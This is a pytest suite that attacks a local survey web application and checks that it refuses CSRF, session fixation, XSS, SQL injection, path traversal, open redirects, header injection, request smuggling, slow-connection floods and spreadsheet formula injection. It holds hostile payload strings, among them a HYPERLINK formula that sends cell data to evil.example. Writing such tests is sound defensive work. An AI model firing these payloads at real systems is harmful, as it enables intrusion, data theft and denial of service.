"""A list of attacks, each tried against the real command on the loopback address.

The first line of each test says what the attacker tries. ``python tests/attacks_table.py`` lists them.
"""

from __future__ import annotations

import contextlib
import csv
import html
import io
import re
import socket
import time
import zipfile
from collections.abc import Iterator
from urllib.parse import quote, urlencode

import lxml.html
import openpyxl
import pytest

from attacker import FORM, Attacker, Reply
from clustergov.survey.service.keys import random_key
from serving import PASSWORD, Service, serving

QUESTIONNAIRE = """\
questionnaire: attacked
version: 1
title: {nl: "Proef <b>&", en: "Trial <b>&"}
languages: [en, nl]
scales:
  kind:
    direction: none
    options: [{code: A, text: {en: one, nl: een}}, {code: other, text: {en: another, nl: anders}}]
  agree:
    direction: ascending
    options: [{code: A1, text: {en: less, nl: minder}}, {code: A2, text: {en: more, nl: meer}}]
sections:
  - code: first
    title: {en: First, nl: Eerst}
    questions:
      - {code: words, kind: text, required: true, text: {en: Words, nl: Woorden}}
      - {code: kind, kind: single, scale: kind, other: true, text: {en: Kind, nl: Soort}}
      - {code: said, kind: single, scale: agree, comment: true, text: {en: Said, nl: Gezegd}}
      - code: boxes
        kind: multiple
        comment: true
        other: true
        text: {en: Boxes, nl: Vakjes}
        items: [{code: a, text: {en: a, nl: a}}, {code: b, text: {en: b, nl: b}}]
      - {code: pieces, kind: texts, text: {en: Pieces, nl: Stukjes}, items: [{code: a, text: {en: a, nl: a}}]}
      - {code: number, kind: number, text: {en: Number, nl: Getal}}
      - {code: day, kind: date, text: {en: Day, nl: Dag}}
  - code: second
    title: {en: Second, nl: Tweede}
    questions:
      - {code: again, kind: text, text: {en: Again, nl: Nog eens}}
"""
ANSWERS = {"words": "quiet words", "kind": "A", "said": "A2", "boxes_a": "Y", "number": "3", "day": "2026-03-01"}
FREE = ("words", "kind_other", "said_comment", "boxes_other", "boxes_acomment", "pieces_a", "again")
PAYLOADS = (
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "' onfocus=alert(1) autofocus x='",
    "</textarea><script>alert(1)</script>", "javascript:alert(1)", "{{7*7}}{% raw %}${7*7}#{7*7}", "<!--<svg/onload=alert(1)>",
)  # fmt: skip
SQL = (
    "' OR '1'='1", "'; DROP TABLE response; --", "\" OR 1=1 --", "1); DELETE FROM survey; --", "\\'; SELECT pg_sleep(5); --",
    "%' UNION SELECT value FROM login --",
)  # fmt: skip


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    folder = tmp_path_factory.mktemp("attacks")
    questionnaire = folder / "attacked.yml"
    questionnaire.write_text(QUESTIONNAIRE, encoding="utf-8")
    with serving(questionnaire, f"sqlite:///{folder / 'attacked.db'}") as running:
        yield running


@pytest.fixture
def attacker(service: Service) -> Attacker:
    return Attacker(service.port)


@pytest.fixture(scope="module")
def manager(service: Service) -> Attacker:
    """The manager, who means no harm."""
    inside = Attacker(service.port)
    assert inside.log_in(PASSWORD).status == 303
    return inside


def begin(service: Service) -> tuple[Attacker, dict[str, str]]:
    """A respondent on the first page, with its form."""
    respondent = Attacker(service.port)
    page = respondent.get("/en/1")
    assert page.status == 200
    return respondent, {**page.hidden, **ANSWERS}


def submit(service: Service, answers: dict[str, str]) -> Attacker:
    """A respondent who sends the whole questionnaire in."""
    respondent, form = begin(service)
    assert respondent.post("/en/1", {**form, **answers, "move": "next"}).header("location") == "/en/2"
    last = {name: value for name, value in answers.items() if name == "again"}
    assert respondent.send("/en/2", {**last, "move": "submit"}).header("location") == "/en/thanks"
    return respondent


def rows(manager: Attacker, file: str = "all.csv") -> list[dict[str, str]]:
    content = manager.get(f"/manage/en/export/{file}").body.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(content, newline=""), delimiter=";"))


def stored(manager: Attacker, words: str) -> list[dict[str, str]]:
    return [row for row in rows(manager) if row["words"] == words]


def well(service: Service) -> None:
    """The service goes on, and as one that nothing happened to."""
    assert Attacker(service.port).get("/health").status == 200


# --- forged requests --------------------------------------------------------------------------------------------------


def test_csrf_form_without_its_token(service: Service, manager: Attacker) -> None:
    """Post in a respondent's name without the form's token, with an empty, doubled or wrong one."""
    respondent, form = begin(service)
    form["words"] = "forged without token"
    bare = {name: value for name, value in form.items() if name != "csrf"}
    pairs = [*bare.items(), ("move", "next")]
    for token in ([], [("csrf", "")], [("csrf", "0" * 64)], [("csrf", form["csrf"])] * 2, [("CSRF", form["csrf"])]):
        assert respondent.post("/en/1", [*pairs, *token]).status == 403
    assert not stored(manager, "forged without token")


def test_csrf_token_of_the_attackers_own_browser(service: Service, manager: Attacker) -> None:
    """Post with a token that is valid, but was given to the attacker's own browser."""
    respondent, form = begin(service)
    _, other = begin(service)
    form |= {"csrf": other["csrf"], "words": "forged with foreign token", "move": "next"}
    assert respondent.post("/en/1", form).status == 403
    assert not stored(manager, "forged with foreign token")


@pytest.mark.parametrize(
    "headers",
    [
        [("Origin", "https://evil.example")],
        [("Origin", "http://127.0.0.1.evil.example")],
        [("Origin", "http://127.0.0.1:1")],
        [("Origin", "null"), ("Sec-Fetch-Site", "cross-site")],
        [("Sec-Fetch-Site", "cross-site")],
        [("Sec-Fetch-Site", "same-site")],
    ],
)
def test_csrf_from_another_origin(service: Service, manager: Attacker, headers: list[tuple[str, str]]) -> None:
    """Post from another site, from a neighbour under the same domain or from a sandboxed frame, even with the right token."""
    respondent, form = begin(service)
    form |= {"words": "forged from elsewhere", "move": "next"}
    assert respondent.post("/en/1", form, headers).status == 403
    assert not stored(manager, "forged from elsewhere")


def test_own_forms_are_let_through_as_browsers_send_them(service: Service) -> None:
    """(No attack.) Browsers write ``Origin: null`` under our policy for referrers; that is let through from our own pages."""
    for headers in (
        [("Origin", "null"), ("Sec-Fetch-Site", "same-origin")],
        [("Origin", f"http://127.0.0.1:{service.port}")],
    ):
        respondent, form = begin(service)
        assert respondent.post("/en/1", {**form, "move": "next"}, headers).status == 303


def test_csrf_on_the_managers_actions(service: Service, manager: Attacker) -> None:
    """Close the survey, reopen it or log the manager out from another page, by GET, without token, with a respondent's."""
    _, form = begin(service)
    for action in ("close", "reopen", "logout"):
        manager.get(f"/manage/en/{action}")
        for fields in ({}, {"csrf": form["csrf"]}):
            assert manager.post(f"/manage/en/{action}", fields).status == 403
    assert manager.get("/manage/en").status == 200
    assert "The survey is open." in manager.get("/manage/en").text


def test_csrf_log_somebody_in_as_the_attacker(service: Service) -> None:
    """Make a browser post the login form with the attacker's own token and password (login CSRF)."""
    own = Attacker(service.port)
    fields = {**own.get("/manage/en/login").hidden, "password": PASSWORD}
    assert Attacker(service.port).post("/manage/en/login", fields).status == 403


# --- sessions and cookies -----------------------------------------------------------------------------------------------


def test_session_fixation(service: Service) -> None:
    """Give the manager a session cookie beforehand and wait for the login."""
    chosen = "A" * 43
    victim = Attacker(service.port, {"clustergov-manager": chosen})
    assert victim.log_in(PASSWORD).status == 303
    assert victim.cookies["clustergov-manager"] != chosen
    attacker = Attacker(service.port, {"clustergov-manager": chosen})
    assert attacker.get("/manage/en").header("location") == "/manage/en/login"


def test_session_used_after_logout(service: Service) -> None:
    """Go on with a copied session cookie after the manager has logged out."""
    manager = Attacker(service.port)
    manager.log_in(PASSWORD)
    copied = Attacker(service.port, dict(manager.cookies))
    assert copied.get("/manage/en").status == 200
    assert manager.post("/manage/en/logout", manager.get("/manage/en").hidden).status == 303
    assert "clustergov-manager" not in manager.cookies
    assert copied.get("/manage/en").status == 303


def test_cookie_flags(service: Service, attacker: Attacker) -> None:
    """Read a cookie by script, or have it sent along from another site."""
    [response] = attacker.get("/en/1").every("set-cookie")
    [login] = attacker.get("/manage/en/login").every("set-cookie")
    [session, gone] = attacker.log_in(PASSWORD).every("set-cookie")
    assert "; HttpOnly; SameSite=Lax" in response
    for cookie in (login, session, gone):
        assert "; HttpOnly; SameSite=Strict" in cookie
    assert "Max-Age=0" in gone
    assert not [c for c in (response, login, session) if "Expires" in c or "Max-Age" in c or "Domain" in c]


def test_cookie_tossing(service: Service, manager: Attacker) -> None:
    """Put a second cookie of the same name beside the respondent's, as a neighbour under the same domain could."""
    victim, form = begin(service)
    attacker, _ = begin(service)
    own, foreign = victim.cookies["clustergov"], attacker.cookies["clustergov"]
    form |= {"words": "tossed", "move": "next"}
    for both in (f"clustergov={foreign}; clustergov={own}", f"clustergov={own}; clustergov={foreign}"):
        assert victim.post("/en/1", form, [("Cookie", both)]).status == 403
    assert not stored(manager, "tossed")


@pytest.mark.parametrize("value", ["", "x", "o", "i" * 27, "o" + "a" * 25 + "!", "o" + "a" * 5000, *map(quote, SQL)])
def test_invented_cookies(service: Service, value: str) -> None:
    """Send cookies that were never given out: empty, long, with SQL in them."""
    for name in ("clustergov", "clustergov-manager", "clustergov-login"):
        attacker = Attacker(service.port, {name: value} if value else {})
        assert attacker.get("/en/1").status in (200, 403)
        assert attacker.get("/manage/en").header("location") == "/manage/en/login"
        assert attacker.post("/en/1", {"csrf": "0" * 64}).status == 403


# --- what is put into pages ---------------------------------------------------------------------------------------------


def test_clickjacking_sniffing_and_leaking_headers(service: Service, manager: Attacker, attacker: Attacker) -> None:
    """Frame a page, have it taken for something else, learn its address from a referrer, read it from a cache."""
    paths = ["/", "/en/1", "/nl", "/health", "/i/" + random_key(), "/en/thanks", "/nowhere/at/all", "/style.css"]
    replies = [attacker.get(path) for path in paths] + [
        attacker.post("/en/1", {}),
        attacker.get("/", [("Host", "evil")]),
    ]
    replies += [manager.get("/manage/en"), manager.get("/manage/en/export/all.csv"), manager.get("/manage/en/close")]
    for reply in replies:
        policy = reply.header("content-security-policy")
        for part in ("default-src 'none'", "frame-ancestors 'none'", "form-action 'self'", "base-uri 'none'"):
            assert part in policy
        assert "unsafe" not in policy
        assert (reply.header("x-frame-options"), reply.header("x-content-type-options")) == ("DENY", "nosniff")
        assert reply.header("referrer-policy") == "no-referrer"
        assert (
            reply.header("cross-origin-opener-policy") == reply.header("cross-origin-resource-policy") == "same-origin"
        )
        assert not reply.header("server")
        assert not reply.header("x-powered-by")
        assert reply.header("cache-control") == "no-store" or reply.header("content-type").startswith("text/css")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_in_every_free_text(service: Service, manager: Attacker, payload: str) -> None:
    """Write script into every free text, “other” and remark, and look at it on each page that shows it again."""
    respondent, form = begin(service)
    given = {**dict.fromkeys(FREE, payload), "kind": "other", "number": payload, "day": payload}
    refused = respondent.post("/en/1", {**form, **given, "move": "next"})
    assert refused.status == 422
    kept = respondent.post(
        "/en/1", {**respondent.get("/en/1").hidden, **given, "number": "1", "day": "", "move": "next"}
    )
    assert kept.header("location") == "/en/2"
    shown = [
        refused,
        respondent.get("/en/1"),
        respondent.get("/nl/1"),
        respondent.send("/en/2", {"again": payload, "move": "save"}),
    ]
    shown += [
        respondent.get("/en/2"),
        respondent.get("/en/saved"),
        manager.get("/manage/en"),
        manager.get("/manage/nl"),
    ]
    assert all(harmless(page) for page in shown if page.status != 303)
    assert any(payload in html.unescape(page.text) for page in shown), "it is shown as it was written"


def harmless(page: Reply) -> bool:
    """Whether every element and attribute on a page is one of ours, and the researcher's own texts are escaped too."""
    tree = lxml.html.fromstring(page.body)
    elements = [each for each in tree.iter() if isinstance(each.tag, str)]
    assert not {each.tag for each in elements} & {"script", "img", "iframe", "object", "style", "b", "base"}
    assert not [each for each in elements if each.tag == "svg" and each.get("class") != "bar"]
    assert not [name for each in elements for name in each.attrib if name.startswith("on") or name == "style"]
    links = [each.get(name, "/") for each in elements for name in ("href", "action", "src")]
    assert not [link for link in links if not re.match(r"[/#]|http://127\.0\.0\.1:\d+/[ir]/", link)]
    assert not list(tree.xpath("//comment()"))
    return True


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xss_by_address(service: Service, attacker: Attacker, manager: Attacker, payload: str) -> None:
    """Write script into paths, queries and headers that an error page might repeat."""
    part = quote(payload, safe="")
    paths = [
        f"/{part}",
        f"/en/{part}",
        f"/i/{part}",
        f"/r/{part}",
        f"/en/1?x={part}",
        f"/manage/{part}",
        f"/manage/en/login?left={part}",
    ]
    headers = [
        ("Accept-Language", payload),
        ("User-Agent", payload),
        ("Referer", payload),
        ("X-Forwarded-Host", payload),
    ]
    for path in paths:
        for who in (attacker, manager):
            reply = who.get(path, headers)
            assert payload not in reply.text
            assert reply.status < 500


def test_xss_by_download(service: Service, manager: Attacker) -> None:
    """Have a download opened as a page in the browser."""
    submit(service, {**ANSWERS, "words": "<script>alert(1)</script>"})
    for file in ("complete.csv", "partial.csv", "all.csv", "all.xlsx", "codebook.csv"):
        reply = manager.get(f"/manage/en/export/{file}")
        assert reply.status == 200
        assert reply.header("content-disposition") == f'attachment; filename="{file}"'
        assert "html" not in reply.header("content-type")


# --- headers, addresses, redirects ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "insert", ["%0d%0aSet-Cookie:%20evil=1", "%0aLocation:%20//evil", "%E5%98%8A%E5%98%8DSet-Cookie:x=y", "\u560d"]
)
def test_header_injection(service: Service, attacker: Attacker, insert: str) -> None:
    """Smuggle a line end through an address into a header of the answer."""
    insert = quote(insert, safe="%:/=")
    for path in (f"/{insert}", f"/en/{insert}", f"/manage/{insert}", f"/en?next={insert}", f"/?lang={insert}"):
        reply = attacker.get(path)
        assert not [name for name, value in reply.headers if "evil" in value or name == "evil"]
        assert reply.status in (303, 400, 404)


@pytest.mark.parametrize(
    "path",
    ["//evil.example/", "/%2f%2fevil.example", "/\\evil.example", "/?next=//evil.example", "/en?next=https://evil.example",
     "/manage?next=//evil.example", "/manage/en/login?next=https://evil.example", "/en/..//evil.example", "/;@evil.example",
     "/https://evil.example"],
)  # fmt: skip
def test_open_redirects(service: Service, attacker: Attacker, path: str) -> None:
    """Have a link on our host lead to another host: by the language switch, by ``next=``, by doubled slashes."""
    reply = attacker.get(path, [("Referer", "https://evil.example"), ("X-Forwarded-Host", "evil.example")])
    location = reply.header("location")
    assert "evil" not in location
    assert not location or (location.startswith("/") and not location.startswith("//"))


@pytest.mark.parametrize(
    "path",
    ["/../../etc/passwd", "/style.css/../../../../etc/passwd", "/..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "/en/../../attacked.db",
     "/manage/../attacked.db", "/manage/style-../../../../etc/passwd", "/static/..%5c..%5cattacked.db", "/.env", "/.git/config",
     "/attacked.db", "/manage/en/export/../../../etc/passwd", "/manage/en/export/..%2f..%2fattacked.db", "/%00", "/style.css%00.html"],
)  # fmt: skip
def test_path_traversal(service: Service, manager: Attacker, path: str) -> None:
    """Fetch files of the machine through the paths of style sheets and downloads."""
    reply = manager.get(path)
    assert reply.status in (303, 400, 404)
    assert b"root:" not in reply.body
    assert b"SQLite" not in reply.body


@pytest.mark.parametrize(
    "host",
    ["evil.example", "127.0.0.1.evil.example", "127.0.0.1:80@evil.example", "localhost.evil", "", "127.0.0.1 evil"],
)
def test_host_header(service: Service, attacker: Attacker, host: str) -> None:
    """Ask under another host name (poisoned links, DNS rebinding)."""
    reply = attacker.get("/en/1", [("Host", host)])
    assert reply.status in (400, 421)
    assert "evil" not in reply.text


def test_host_header_twice(service: Service, attacker: Attacker) -> None:
    """Send two hosts, of which a proxy believes one and we the other."""
    own = f"127.0.0.1:{service.port}"
    answer = attacker.raw(
        f"GET /en/1 HTTP/1.1\r\nHost: {own}\r\nHost: evil.example\r\nConnection: close\r\n\r\n".encode()
    )
    assert answer.startswith(b"HTTP/1.1 400")


def test_forwarded_headers_are_not_believed(service: Service, attacker: Attacker) -> None:
    """Claim another address, host or scheme by the headers of a proxy that is not there."""
    headers = [("X-Forwarded-For", "203.0.113.9"), ("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Proto", "https"),
               ("Forwarded", "host=evil.example;proto=https"), ("X-Original-URL", "/manage/en"), ("X-Rewrite-URL", "/manage/en")]  # fmt: skip
    reply = attacker.get("/", headers)
    assert re.fullmatch("/(en|nl)/1", reply.header("location"))


def test_method_override(service: Service, manager: Attacker) -> None:
    """Turn a GET into a POST or the other way round, by header, by field or by a method that nobody serves."""
    respondent, form = begin(service)
    for name in ("X-HTTP-Method-Override", "X-Method-Override", "X-HTTP-Method"):
        assert respondent.get("/en/1", [(name, "POST")]).status == 200
        assert manager.get("/manage/en/close", [(name, "POST")]).status == 200
    assert respondent.post("/en/1", {**form, "_method": "DELETE", "move": "next"}).status == 303
    assert "The survey is open." in manager.get("/manage/en").text
    for method in ("PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "DEBUG"):
        path = "/en/1" if method != "CONNECT" else f"127.0.0.1:{service.port}"
        assert manager.ask(method, path, None).status in (400, 405)


# --- fields and bodies ----------------------------------------------------------------------------------------------------


def test_parameter_pollution(service: Service, manager: Attacker) -> None:
    """Send fields twice, with other spellings, as lists and objects, for questions of other pages and of nobody."""
    respondent, form = begin(service)
    pairs = [(name, value) for name, value in form.items() if name not in ("words", "kind")]
    pairs += [("words", "polluted"), ("words", "polluted"), ("kind", "A"), ("kind", "other"), ("kind[]", "A"), ("words[$ne]", "x"),
              ("again", "not on this page"), ("id", "1"), ("submitted", "2026-01-01"), ("screen", "99"), ("__proto__", "x"),
              ("move", "next"), ("move", "submit"), ("WORDS", "x")]  # fmt: skip
    assert respondent.post("/en/1", pairs).status in (303, 422)
    for row in rows(manager):
        assert row["again"] != "not on this page"
        assert row["kind"] in ("", "A", "other")
    twice = Attacker(service.port)
    fields = [("csrf", twice.get("/manage/en/login").hidden["csrf"]), ("password", "wrong"), ("password", PASSWORD)]
    assert twice.post("/manage/en/login", fields).status == 403
    assert "clustergov-manager" not in twice.cookies


@pytest.mark.parametrize("code", ["Z", "a", "A1", "A ", "A\u0000", "A'", "-oth-", "98", "<b>"])
def test_answers_that_nobody_offered(service: Service, manager: Attacker, code: str) -> None:
    """Choose options that the question does not have."""
    respondent, form = begin(service)
    respondent.post("/en/1", {**form, "words": f"offered {code[:1]}", "kind": code, "boxes_a": code, "move": "next"})
    for row in rows(manager):
        assert row["kind"] in ("", "A", "other")
        assert row["boxes_a"] in ("", "Y")


def test_huge_bodies(service: Service, attacker: Attacker) -> None:
    """Send more than a form holds: announced, not announced (in chunks), and as ever so many fields."""
    respondent, form = begin(service)
    big = {**form, "words": "x" * 300_000}
    assert respondent.post("/en/1", big).status == 413
    head = f"POST /en/1 HTTP/1.1\r\nHost: 127.0.0.1:{service.port}\r\nContent-Type: {FORM}\r\n".encode()
    announced = attacker.raw(head + b"Content-Length: 99999999999999\r\n\r\nx")
    assert announced.startswith(b"HTTP/1.1 413")
    chunk = b"10000\r\n" + b"a" * 0x10000 + b"\r\n"
    assert b" 413 " in _sent(attacker, head + b"Transfer-Encoding: chunked\r\n\r\n" + chunk * 8)
    assert respondent.post("/en/1", [(f"f{n}", "") for n in range(5_001)]).status == 413
    well(service)


def _sent(attacker: Attacker, content: bytes) -> bytes:
    """As much as the other side takes before it hangs up."""
    with socket.create_connection(("127.0.0.1", attacker.port), timeout=5) as connection:
        with contextlib.suppress(OSError):
            connection.sendall(content)
        return connection.recv(65_536)


def test_huge_heads(service: Service, attacker: Attacker) -> None:
    """Send long addresses, long headers and very many of them."""
    assert attacker.get("/en/" + "a" * 5_000).status == 414
    assert attacker.get("/en/1?" + "a" * 5_000).status == 414
    assert attacker.get("/en/1", [("X-Long", "a" * 20_000)]).status == 431
    assert attacker.get("/en/1", [(f"X-{number}", "a") for number in range(95)]).status == 200
    raw = "".join(f"X-{number}: a\r\n" for number in range(200))
    answer = attacker.raw(
        f"GET /en/1 HTTP/1.1\r\nHost: 127.0.0.1:{service.port}\r\n{raw}Connection: close\r\n\r\n".encode()
    )
    assert answer.startswith(b"HTTP/1.1 431")


def test_slow_senders(service: Service) -> None:
    """Keep very many connections open that send a byte now and then."""
    head = f"POST /en/1 HTTP/1.1\r\nHost: 127.0.0.1:{service.port}\r\nContent-Type: {FORM}\r\nContent-Length: 100\r\n".encode()
    slow = [socket.create_connection(("127.0.0.1", service.port)) for _ in range(150)]
    try:
        for place, connection in enumerate(slow):
            connection.sendall(head if place % 2 else head + b"\r\na")
        submit(service, {**ANSWERS, "words": "among slow ones"})
    finally:
        for connection in slow:
            connection.close()


@pytest.mark.parametrize(
    "body",
    [b"words=%ff%fe", b"words=%c0%af", b"words=%ed%a0%80", b"words=a%00b", b"%00=x", b"words=\xff", b"words=%f4%90%80%80",
     b"words", b"&&&", b"words=%c3", "words=é".encode(), b"words=a\x00b"],
)  # fmt: skip
def test_broken_encodings(service: Service, manager: Attacker, body: bytes) -> None:
    """Send invalid UTF-8, overlong forms, surrogates, NUL and fields without a value."""
    respondent, form = begin(service)
    token = urlencode({"csrf": form["csrf"], "move": "next"}).encode()
    before = len(rows(manager))
    assert respondent.ask("POST", "/en/1", token + b"&" + body, [("Content-Type", FORM)]).status == 400
    assert len(rows(manager)) == before


@pytest.mark.parametrize("path", ["/%ff%fe", "/en/%c0%af", "/i/%ed%a0%80", "/%00", "/en/1%00", "/nl%0a"])
def test_broken_encodings_in_addresses(service: Service, attacker: Attacker, path: str) -> None:
    """Send invalid UTF-8, NUL and line ends in an address."""
    assert attacker.get(path).status in (400, 404)


@pytest.mark.parametrize(
    "kind",
    ["application/json", "multipart/form-data; boundary=x", "text/plain", "", "application/x-www-form-urlencoded; charset=utf-16",
     "application/x-www-form-urlencoded, text/plain", "application/xml", "application/csp-report"],
)  # fmt: skip
def test_other_content_types(service: Service, kind: str) -> None:
    """Send JSON, multipart, XML or a form under a false name where a form is expected."""
    respondent, form = begin(service)
    body = urlencode({**form, "move": "next"}).encode()
    assert respondent.ask("POST", "/en/1", body, [("Content-Type", kind)] if kind else []).status == 415
    bomb = [("Content-Type", FORM), ("Content-Encoding", "gzip")]
    assert respondent.ask("POST", "/en/1", b"\x1f\x8b" + b"\0" * 50, bomb).status == 415


@pytest.mark.parametrize(
    "heads",
    [
        "Content-Length: 5\r\nTransfer-Encoding: chunked",
        "Transfer-Encoding: chunked\r\nContent-Length: 5",
        "Content-Length: 5\r\nContent-Length: 6",
        "Content-Length: +5",
        "Content-Length: 5, 5",
        "Content-Length: -1",
        "Transfer-Encoding: xchunked",
        "Transfer-Encoding : chunked",
        "Transfer-Encoding: chunked, identity",
        "Content-Length: 0x5",
    ],
)
def test_http_smuggling(service: Service, attacker: Attacker, heads: str) -> None:
    """Hide a second request in the body of the first by two lengths or an odd one (CL.TE, TE.CL, TE.TE, CL.CL)."""
    hidden = f"GET /manage/en/login HTTP/1.1\r\nHost: 127.0.0.1:{service.port}\r\n\r\n"
    content = f"POST /en/1 HTTP/1.1\r\nHost: 127.0.0.1:{service.port}\r\nContent-Type: {FORM}\r\n{heads}\r\n\r\n0\r\n\r\n{hidden}"
    answer = attacker.raw(content.encode(), seconds=1)
    assert b"Log in to manage" not in answer, "the hidden request was answered"
    assert answer.split(b" ")[1:2] == [b"400"]
    well(service)


def test_broken_http(service: Service, attacker: Attacker) -> None:
    """Send what is no HTTP, an old version, a space in the address, a bare line feed."""
    own = f"Host: 127.0.0.1:{service.port}"
    for content in (
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"hello\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n", b"GET  /  HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.0\r\n\r\n", f"GET /en/1 HTTP/1.1\r\n{own}\r\n X-Folded: a\r\n\r\n".encode(), b"\x00" * 1000,
    ):  # fmt: skip
        answer = attacker.raw(content, seconds=0.5)
        assert b" 200 " not in answer[:20]
        assert b" 500 " not in answer[:20]
    well(service)


def test_websocket_upgrade(service: Service, attacker: Attacker) -> None:
    """Upgrade a connection to a protocol that no check looks at."""
    heads = [
        ("Connection", "Upgrade"),
        ("Upgrade", "websocket"),
        ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Key", "AAAAAAAAAAAAAAAAAAAAAA=="),
    ]
    assert attacker.get("/en/1", heads).status != 101
    assert attacker.get("/en/1", [("Connection", "Upgrade, HTTP2-Settings"), ("Upgrade", "h2c")]).status != 101


# --- the database ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("sql", SQL)
def test_sql_injection(service: Service, manager: Attacker, sql: str) -> None:
    """Write SQL into every field, token, cookie, language and number."""
    words = f"sql {sql}"
    answers = {**ANSWERS, **dict.fromkeys(FREE, sql), "kind": "other", "words": words}
    submit(service, answers)
    [row] = stored(manager, words)
    assert [row[name].removeprefix("'") for name in FREE[1:4]] == [sql.removeprefix("'")] * 3
    part = quote(sql, safe="")
    attacker = Attacker(service.port)
    for path in (
        f"/i/{part}",
        f"/r/{part}",
        f"/{part}",
        f"/en/{part}",
        f"/manage/en/export/{part}",
        f"/manage/{part}/login",
    ):
        assert attacker.get(path).status in (404, 429)
    respondent, form = begin(service)
    assert respondent.post("/en/1", {**form, "step": sql, "seen": sql, "move": sql, sql: sql}).status < 500
    assert attacker.send("/manage/en/login", {"password": sql}).status in (403, 429)
    assert len(rows(manager)) > 1


def test_formula_injection(service: Service, manager: Attacker) -> None:
    """Answer with formulas that a spreadsheet would run when the manager opens the download."""
    formula = '=HYPERLINK("https://evil.example?x="&A1,"click")'
    submit(service, {**ANSWERS, **dict.fromkeys(FREE, formula), "kind": "other", "words": "+cmd|' /C calc'!A0"})
    cells = [cell for row in rows(manager) for cell in row.values() if cell]
    assert "'" + formula in cells
    assert not [cell for cell in cells if re.match(r"[=@\t\r]|[+-]\D", cell)]
    book = manager.get("/manage/en/export/all.xlsx").body
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    sheet = openpyxl.load_workbook(io.BytesIO(book)).active
    assert sheet is not None
    assert not [cell for line in sheet.iter_rows() for cell in line if cell.data_type == "f"]
    codebook = manager.get("/manage/en/export/codebook.csv").text
    assert not [line for line in codebook.splitlines() if re.search(r'(^|;)"[=@+-]\D', line)]


# --- who may see what -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "path",
    ["", "/", "/close", "/reopen", "/export/all.csv", "/export/complete.csv", "/export/partial.csv", "/export/all.xlsx", "/export/codebook.csv"],
)  # fmt: skip
def test_managers_pages_without_login(service: Service, path: str) -> None:
    """Open the manager's pages and downloads without a login, as a respondent, or with an invented session."""
    respondent, _ = begin(service)
    for cookies in (
        {},
        respondent.cookies,
        {"clustergov-manager": respondent.cookies["clustergov"]},
        {"clustergov-manager": "A" * 43},
    ):
        reply = Attacker(service.port, dict(cookies)).get(f"/manage/nl{path}")
        assert reply.status == (404 if path == "/" else 303)
        assert path == "/" or reply.header("location") == "/manage/nl/login"
        assert not reply.body or path == "/"


def test_idor_between_respondents(service: Service) -> None:
    """See or change another respondent's answers by addresses, numbers and links."""
    first, form = begin(service)
    first.post("/en/1", {**form, "words": "only mine", "move": "next"})
    second, _ = begin(service)
    for path in ("/en/1", "/en/2", "/en/saved", "/en/thanks", "/nl/1", "/en/99", "/en/0", "/en/-1"):
        assert "only mine" not in second.get(path).text
    with_form = second.post("/en/1", {**form, "words": "changed by another", "move": "next"})
    assert with_form.status == 403
    assert "only mine" in first.get("/en/1").text


def test_jumping_ahead(service: Service, manager: Attacker) -> None:
    """Post the last page first, to send in without the questions that must be answered."""
    respondent, form = begin(service)
    hidden = {name: form[name] for name in ("csrf", "step", "seen")}
    reply = respondent.post("/en/2", {**hidden, "again": "jumped", "move": "submit"})
    assert reply.header("location") == "/en/1"
    assert respondent.post("/en/3", {**hidden, "move": "submit"}).header("location") != "/en/thanks"
    assert respondent.get("/en/thanks").header("location") == "/en/1"
    assert not [row for row in rows(manager, "complete.csv") if row["again"] == "jumped"]


def test_replay_after_submission(service: Service, manager: Attacker) -> None:
    """Send an old form again, changed, after the questionnaire was sent in."""
    respondent, form = begin(service)
    first = {**form, "words": "sent once", "move": "next"}
    respondent.post("/en/1", first)
    last = {**respondent.get("/en/2").hidden, "again": "as it was", "move": "submit"}
    assert respondent.post("/en/2", last).header("location") == "/en/thanks"
    for changed in (
        {**first, "words": "rewritten"},
        {**last, "again": "rewritten"},
        {**last, "step": random_key(), "again": "rewritten"},
    ):
        assert respondent.post("/en/1" if "words" in changed else "/en/2", changed).status in (303, 409, 410)
    [row] = stored(manager, "sent once")
    assert row["again"] == "as it was"
    assert not stored(manager, "rewritten")


def test_double_submission(service: Service, manager: Attacker) -> None:
    """Send the same form several times: one response, and each time the same acknowledgement."""
    respondent, form = begin(service)
    respondent.post("/en/1", {**form, "words": "sent twice", "move": "next"})
    last = {**respondent.get("/en/2").hidden, "move": "submit"}
    assert {respondent.post("/en/2", last).header("location") for _ in range(4)} == {"/en/thanks"}
    assert len(stored(manager, "sent twice")) == 1


def test_answering_a_closed_survey(service: Service, manager: Attacker) -> None:
    """Send a form that was shown while the survey was open, after it was closed."""
    respondent, form = begin(service)
    closed = manager.send("/manage/en/close", {})
    assert closed.header("location") == "/manage/en"
    time.sleep(1.1)  # each process looks once a second
    try:
        assert respondent.post("/en/1", {**form, "words": "too late", "move": "next"}).status == 410
    finally:
        assert manager.send("/manage/en/reopen", {}).status == 303
        time.sleep(1.1)
    assert not stored(manager, "too late")
    well(service)


# --- guessing (last: afterwards this address has to wait) --------------------------------------------------------------------


def test_what_an_error_tells(service: Service, attacker: Attacker) -> None:
    """Learn from an error what runs here, where it lies, or what was sent."""
    respondent, form = begin(service)
    replies = [
        attacker.get("/nowhere"),
        attacker.get("/en/abc"),
        attacker.post("/en/1", {}),
        attacker.get("/manage/xx"),
    ]
    replies += [
        respondent.post("/en/1", {**form, "words": "x" * 300_000}),
        attacker.get("/openapi.json"),
        attacker.get("/docs"),
    ]
    for reply in replies:
        assert 400 <= reply.status < 500
        assert reply.header("content-type") == "text/html; charset=utf-8"
        for word in (
            "Traceback",
            "detail",
            "starlette",
            "fastapi",
